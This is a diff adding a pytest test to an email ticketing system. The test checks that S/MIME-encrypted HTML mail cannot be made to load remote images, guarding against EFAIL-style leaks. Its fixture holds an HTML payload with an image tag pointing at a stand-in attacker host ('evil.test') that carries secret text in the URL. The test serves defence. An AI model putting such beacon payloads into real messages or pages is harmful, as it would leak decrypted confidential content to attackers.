@@ -346,3 +346,23 @@ def test_a_key_expires_when_the_mail_came_not_when_it_is_read(house: Cast, autho
     assert uncovering.uncover(inbound).as_facts()["signed"] == "good"  # type: ignore[union-attr]
     inbound.received_at = clock.now() + timedelta(days=500)
     assert uncovering.uncover(inbound).as_facts()["signed"] == "expired"  # type: ignore[union-attr]
+
+
+def test_an_encrypted_mail_asks_the_web_for_nothing(
+    house: Cast, arrive: Arrive, authority: Authority, support: Issued, karla: Issued
+) -> None:
+    """EFAIL, by altered ciphertext: nobody can be led to fetch an address that carries the words away."""
+    from tresen.channels.email.models import PictureConsent
+    from tresen.channels.email.pictures import allow, is_always_allowed
+    from tresen.tickets.change import Refused
+
+    PictureConsent.objects.create(sender="karla@klinikum.test", by=house.agent)
+    html = b'Content-Type: text/html\r\n\r\n<p>Hallo</p><img src="http://evil.test/?x=geheim" width=300 height=200>\r\n'
+    unsigned = arrive(smime(authority, support, html, 70)).message
+    signed_ = arrive(smime(authority, support, authority.sign(html, karla, "-binary"), 71)).message
+    assert unsigned is not None
+    assert signed_ is not None
+    assert not is_always_allowed(unsigned)
+    assert is_always_allowed(signed_)
+    with pytest.raises(Refused):
+        allow(unsigned, by=house.actor("agent"))
